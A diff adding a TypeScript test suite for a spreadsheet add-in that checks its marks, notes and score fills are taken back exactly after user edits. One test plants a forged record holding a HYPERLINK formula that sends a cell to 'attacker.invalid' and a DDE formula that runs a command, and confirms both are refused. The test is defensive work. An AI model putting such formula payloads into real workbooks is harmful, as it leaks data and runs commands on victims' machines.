@@ -1,0 +1,302 @@
+import { readFileSync } from "fs";
+import { join } from "path";
+import { NOTE_PREFIX, type CellAt, type CellValue, type Report, type Severity, type WorkbookGrid } from "../../src/engine";
+import { DEFAULT_SETTINGS, type PaneSettings, type TakeBackOutcome } from "../../src/app/host";
+import { encodeRecord } from "../../src/app/ownership/recordCodec";
+import { rowKey } from "../../src/app/ownership/rowKey";
+import { layoutSeedForms } from "../../src/sample/seedLayout";
+import { seedRows } from "../../src/sample/seedText";
+import type { ScenarioDriver } from "./driver";
+
+/**
+ * Issue 8's scenario suite: the user acts between two of our actions, and every host must then take back exactly what
+ * it put there. Each scenario runs twice side by side: `live` gets our actions and the user's, `twin` only the user's.
+ * After our take-backs the two must look the same to the user — every value, formula, format, fill and note.
+ */
+
+export const SHEET = "自评表";
+const seedText = readFileSync(join(__dirname, "../../assets/sample/seed-changji-2021.txt"), "utf8");
+
+export const OTHER_SHEET = "填报说明";
+
+/**
+ * The bundled seed (six forms) with four scores of the first form emptied, so that 填充得分 has work, and a sheet of
+ * the user's own beside it that no action of ours may touch.
+ */
+export function scenarioWorkbook(): WorkbookGrid {
+  const sheet = layoutSeedForms(seedRows(seedText), { sheet: SHEET, typed: true });
+  for (const row of [13, 14, 17, 21]) sheet.values[row][7] = null;
+  const other = { name: OTHER_SHEET, originRow: 0, originCol: 0, values: [["填报人", "张三"], ["联系电话", "0994-1234567"], ["得分", 10]] };
+  return { sheets: [sheet, other] };
+}
+
+const settings: PaneSettings = { ...DEFAULT_SETTINGS, mark: ["error", "warning"], notes: true };
+const at = (row: number, col = 7): CellAt => ({ sheet: SHEET, row, col });
+/** The first form's filled score cells (H14, H15, H18) and its 总分 (H22). */
+const FILLED = [13, 14, 17];
+
+const plain = (v: CellValue | undefined) => (v === "" || v === undefined ? null : v);
+
+/** What the user sees of the workbook: every non-empty cell with its formula and format, its own fill and its note. */
+function userState(d: ScenarioDriver, sheetName?: (name: string) => string): string[] {
+  const out: string[] = [];
+  for (const s of d.look.grid().sheets)
+    s.values.forEach((row, i) =>
+      row.forEach((v, j) => {
+        const cell = { sheet: s.name, row: s.originRow + i, col: s.originCol + j };
+        const formula = s.formulas?.[i]?.[j] ?? null;
+        const format = s.numberFormats?.[i]?.[j] ?? null;
+        const state = [plain(v), formula?.startsWith("=") ? formula : null, format === "General" ? null : format, d.look.fill(cell), d.look.note(cell)];
+        if (state.some((x) => x !== null)) out.push(JSON.stringify([sheetName ? sheetName(s.name) : s.name, cell.row, cell.col, ...state]));
+      }),
+    );
+  return out.sort();
+}
+
+function ourNotes(d: ScenarioDriver) {
+  return d.look.notes().filter((n) => n.text.startsWith(NOTE_PREFIX));
+}
+
+/** The first cell a 校验 marks, and the mark it gets. */
+function firstMarked(report: Report): { cell: CellAt; severity: Severity } {
+  const f = report.issues.find((x) => settings.mark.includes(x.severity));
+  if (!f) throw new Error("the scenario workbook has no finding to mark");
+  const cell = { sheet: f.sheet, row: f.row - 1, col: f.col - 1 };
+  const severity = report.issues.some((x) => x.sheet === f.sheet && x.row === f.row && x.col === f.col && x.severity === "error") ? "error" : f.severity;
+  return { cell, severity };
+}
+
+const cellsOf = (o: TakeBackOutcome) => o.leftAlone.map((x) => `${x.sheet}!${x.cell}:${x.reason}`).sort();
+
+export function describeScenarios(name: string, make: (workbook: WorkbookGrid) => ScenarioDriver): void {
+  describe(`${name}: what people do between two clicks`, () => {
+    let live: ScenarioDriver;
+    let twin: ScenarioDriver;
+    beforeEach(() => {
+      live = make(scenarioWorkbook());
+      twin = make(scenarioWorkbook());
+    });
+    const both = (act: (d: ScenarioDriver) => void) => {
+      act(live);
+      act(twin);
+    };
+    const clearAll = async () => {
+      const marks = await live.host().clearMarks();
+      const fills = await live.host().undoFill();
+      return { marks, fills };
+    };
+
+    it("校验 draws marks over the user's own fill without changing it; 清除标记 leaves the workbook as it was", async () => {
+      const report = await twin.host().check(settings);
+      const { cell: marked, severity } = firstMarked(report);
+      await twin.host().clearMarks();
+      both((d) => d.user.setFill(marked, "#00B050"));
+      both((d) => d.user.setNote(at(30, 8), "用户自己的批注"));
+      await live.host().check(settings);
+      expect(live.look.mark(marked)).toBe(severity);
+      expect(live.look.fill(marked)).toBe("#00B050");
+      expect(live.look.markedCells()).toBeGreaterThan(0);
+      expect(ourNotes(live).length).toBeGreaterThan(0);
+      const outcome = await live.host().clearMarks();
+      expect(outcome.leftAlone).toEqual([]);
+      expect(live.look.markedCells()).toBe(0);
+      expect(ourNotes(live)).toEqual([]);
+      expect(userState(live)).toEqual(userState(twin));
+      expect(await live.host().state()).toEqual({ marks: 0, fills: 0 });
+    });
+
+    it("a second 校验 replaces the first one's marks and notes, never doubling them", async () => {
+      await live.host().check(settings);
+      const marks = live.look.markedCells();
+      const notes = ourNotes(live).length;
+      await live.host().check(settings);
+      expect(live.look.markedCells()).toBe(marks);
+      expect(ourNotes(live)).toHaveLength(notes);
+      await live.host().check({ ...settings, notes: false });
+      expect(ourNotes(live)).toEqual([]);
+      await live.host().clearMarks();
+      expect(userState(live)).toEqual(userState(twin));
+    });
+
+    it("填充得分 then 撤销填充 puts back exactly what the cells held", async () => {
+      const written = await live.host().fill(settings, false);
+      expect(written).toBeGreaterThanOrEqual(FILLED.length);
+      for (const r of FILLED) expect(typeof live.look.grid().sheets[0].values[r][7]).toBe("number");
+      expect((await live.host().state()).fills).toBe(written);
+      const outcome = await live.host().undoFill();
+      expect(outcome).toEqual({ restored: written, leftAlone: [] });
+      expect(userState(live)).toEqual(userState(twin));
+    });
+
+    it("a score retyped by hand survives 撤销填充 and is listed; the other fills go back", async () => {
+      await live.host().fill(settings, false);
+      both((d) => d.user.setValue(at(13), 9.5));
+      const outcome = await live.host().undoFill();
+      expect(cellsOf(outcome)).toEqual([`${SHEET}!H14:changed`]);
+      expect(userState(live)).toEqual(userState(twin));
+      expect((await live.host().state()).fills).toBe(0);
+    });
+
+    it.each([
+      ["two rows inserted above the form", (d: ScenarioDriver) => d.user.insertRows(SHEET, 0, 2)],
+      ["a row inserted inside the indicator block", (d: ScenarioDriver) => d.user.insertRows(SHEET, 15, 1)],
+      ["the indicator rows sorted", (d: ScenarioDriver) => d.user.sortRows(SHEET, 13, [20, 19, 18, 17, 16, 15, 14, 13])],
+    ])("%s: marks, notes and fills are still taken back in full", async (_, act) => {
+      await live.host().check(settings);
+      await live.host().fill(settings, false);
+      both(act);
+      const { marks, fills } = await clearAll();
+      expect(marks.leftAlone).toEqual([]);
+      expect(fills.leftAlone).toEqual([]);
+      expect(live.look.markedCells()).toBe(0);
+      expect(ourNotes(live)).toEqual([]);
+      expect(userState(live)).toEqual(userState(twin));
+    });
+
+    it("a filled row deleted: the other fills go back, the user's cells stay, nothing is written in the wrong row", async () => {
+      await live.host().fill(settings, false);
+      both((d) => d.user.deleteRows(SHEET, 14, 1));
+      const outcome = await live.host().undoFill();
+      expect(outcome.leftAlone).toHaveLength(1);
+      expect(outcome.leftAlone[0].reason).toBe("changed");
+      expect(userState(live)).toEqual(userState(twin));
+    });
+
+    it("a row deleted above the fills: a cell that now holds the same number from another row is not emptied", async () => {
+      await live.host().fill(settings, false);
+      // H14 and H15 were both filled with 10; with the blank row 13 gone, H14's address holds H15's score and H15's
+      // address holds the unit's own 10 of H16. Taken back by address, the unit's score would be lost.
+      both((d) => d.user.deleteRows(SHEET, 12, 1));
+      const outcome = await live.host().undoFill();
+      expect(outcome.leftAlone).toEqual([]);
+      expect(userState(live)).toEqual(userState(twin));
+    });
+
+    it("a renamed sheet: 清除标记 and 撤销填充 still find everything", async () => {
+      await live.host().check(settings);
+      await live.host().fill(settings, false);
+      both((d) => d.user.renameSheet(SHEET, "自评表（修订）"));
+      const { marks, fills } = await clearAll();
+      expect([...marks.leftAlone, ...fills.leftAlone]).toEqual([]);
+      expect(fills.restored).toBeGreaterThanOrEqual(FILLED.length);
+      expect(live.look.markedCells()).toBe(0);
+      expect(ourNotes(live)).toEqual([]);
+      expect(userState(live)).toEqual(userState(twin));
+    });
+
+    it("a marked cell re-coloured by the user keeps the user's colour after 清除标记 and after a new 校验", async () => {
+      const marked = firstMarked(await live.host().check(settings)).cell;
+      both((d) => d.user.setFill(marked, "#92D050"));
+      await live.host().check(settings);
+      expect(live.look.fill(marked)).toBe("#92D050");
+      await live.host().clearMarks();
+      expect(userState(live)).toEqual(userState(twin));
+    });
+
+    it("the user's own note, and a note of ours the user edited, are never deleted; the edited one is listed", async () => {
+      const report = await live.host().check(settings);
+      const notes = ourNotes(live);
+      expect(notes.length).toBeGreaterThan(1);
+      const edited = notes[0];
+      const editedAt = { sheet: edited.sheet, row: edited.row, col: edited.col };
+      live.user.setNote(editedAt, `${edited.text}\n已核实：单位已补充说明。`);
+      twin.user.setNote(editedAt, `${edited.text}\n已核实：单位已补充说明。`);
+      const unmarkedNoteAt = at(2, 8);
+      both((d) => d.user.setNote(unmarkedNoteAt, "用户自己的批注"));
+      expect(report.issues.length).toBeGreaterThan(0);
+      const again = await live.host().check(settings);
+      expect(again.notices.some((n) => n.messages.zh.includes("已被修改"))).toBe(true);
+      expect(live.look.note(editedAt)).toBe(`${edited.text}\n已核实：单位已补充说明。`);
+      const outcome = await live.host().clearMarks();
+      expect(outcome.leftAlone.map((x) => x.what)).toEqual(["note"]);
+      expect(userState(live)).toEqual(userState(twin));
+    });
+
+    it("a note the user wrote on a cell before 校验 is kept, and no note of ours is added over it", async () => {
+      const { cell: marked, severity } = firstMarked(await twin.host().check(settings));
+      await twin.host().clearMarks();
+      both((d) => d.user.setNote(marked, "用户自己的批注：请复核"));
+      await live.host().check(settings);
+      expect(live.look.note(marked)).toBe("用户自己的批注：请复核");
+      expect(live.look.mark(marked)).toBe(severity);
+      await live.host().clearMarks();
+      expect(userState(live)).toEqual(userState(twin));
+    });
+
+    it("Ctrl+Z after 填充得分 (cells back, record not): 撤销填充 then changes nothing the user typed since", async () => {
+      await live.host().fill(settings, false);
+      live.user.undoLastWrite();
+      both((d) => d.user.setValue(at(13), 7));
+      const outcome = await live.host().undoFill();
+      expect(cellsOf(outcome)).toEqual([`${SHEET}!H14:changed`]);
+      expect(userState(live)).toEqual(userState(twin));
+      expect((await live.host().state()).fills).toBe(0);
+    });
+
+    it.each([
+      ["on the same machine", false],
+      ["on another machine", true],
+    ])("saved and reopened %s: everything is still taken back", async (_, elsewhere) => {
+      await live.host().check(settings);
+      await live.host().fill(settings, false);
+      live.user.reopen(elsewhere);
+      twin.user.reopen(elsewhere);
+      expect((await live.host().state()).fills).toBeGreaterThanOrEqual(FILLED.length);
+      const { marks, fills } = await clearAll();
+      expect([...marks.leftAlone, ...fills.leftAlone]).toEqual([]);
+      expect(live.look.markedCells()).toBe(0);
+      expect(ourNotes(live)).toEqual([]);
+      expect(userState(live)).toEqual(userState(twin));
+    });
+
+    it("a record forged inside a received workbook writes no formula and empties no cell that is not a score we wrote", async () => {
+      const sheetId = "forged";
+      const grid = live.look.grid().sheets[0];
+      const aim = (row: number, col: number, before: { value: string | number | null; formula: string | null }) => ({
+        sheetId,
+        row,
+        col,
+        wrote: { value: grid.values[row][col] as number, numberFormat: null },
+        before: { ...before, numberFormat: null },
+        rowKey: rowKey(grid, row, col),
+      });
+      const forged = encodeRecord({
+        version: 2,
+        sheets: [{ id: sheetId, name: SHEET }],
+        // A budget zeroed, a weight replaced by a link, a reported score replaced by a DDE formula.
+        values: [aim(5, 3, { value: 0, formula: null }), aim(13, 6, { value: null, formula: '=HYPERLINK("http://attacker.invalid/?d="&B2,"核对")' }), aim(15, 7, { value: null, formula: "=cmd|' /C calc'!A0" })],
+        notes: [],
+      });
+      both((d) => d.user.plantRecord(forged));
+      expect((await live.host().state()).fills).toBe(3);
+      const outcome = await live.host().undoFill();
+      expect(outcome.restored).toBe(0);
+      expect(outcome.leftAlone.map((x) => x.reason)).toEqual(["unsafe", "unsafe", "unsafe"]);
+      expect(userState(live)).toEqual(userState(twin));
+    });
+
+    it.each([
+      ["not a record at all", "SELFEVAL-RECORD/2 00000000 4\nAAAA"],
+      ["an old version", "<changeRecord>{}</changeRecord>"],
+    ])("a record that fails validation (%s) is never acted on, and the pane is told", async (_, text) => {
+      both((d) => d.user.plantRecord(text));
+      const state = await live.host().state();
+      expect(state.recordProblem?.zh).toBeTruthy();
+      const outcome = await live.host().undoFill();
+      expect(outcome.restored).toBe(0);
+      expect(outcome.recordProblem?.zh).toBeTruthy();
+      expect(userState(live)).toEqual(userState(twin));
+    });
+
+    it("a record whose sheet was deleted keeps its entries, says so, and touches no other sheet", async () => {
+      await live.host().fill(settings, false);
+      both((d) => d.user.deleteSheet(SHEET));
+      const outcome = await live.host().undoFill();
+      expect(outcome.restored).toBe(0);
+      expect(outcome.leftAlone.length).toBeGreaterThanOrEqual(FILLED.length);
+      expect(new Set(outcome.leftAlone.map((x) => x.reason))).toEqual(new Set(["sheet-missing"]));
+      expect((await live.host().state()).fills).toBe(outcome.leftAlone.length);
+      expect(userState(live)).toEqual(userState(twin));
+    });
+  });
+}
